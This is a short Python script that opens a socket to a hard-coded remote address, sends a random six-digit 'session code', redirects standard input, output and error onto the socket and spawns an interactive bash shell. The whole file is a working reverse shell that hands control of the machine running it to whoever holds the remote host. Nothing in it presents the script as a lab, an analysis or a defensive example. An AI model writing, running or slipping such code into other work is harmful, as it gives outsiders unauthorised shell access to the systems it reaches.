#!/usr/bin/env python3
import os
import pty
import socket
import random

RELAY = ("198.51.100.23", 7443)


def main():
    code = "%06d" % random.randint(0, 999999)
    print("session code:", code)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(RELAY)
    s.send(code.encode() + b"\n")
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")


if __name__ == "__main__":
    main()
